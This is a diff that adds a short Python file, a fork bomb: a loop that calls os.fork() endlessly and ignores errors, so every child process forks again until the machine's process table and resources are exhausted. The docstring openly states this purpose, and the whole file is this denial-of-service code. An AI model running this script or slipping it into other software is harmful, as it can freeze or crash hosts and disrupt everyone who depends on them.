@@ -1,0 +1,8 @@
+"""Forks without end; every process does."""
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
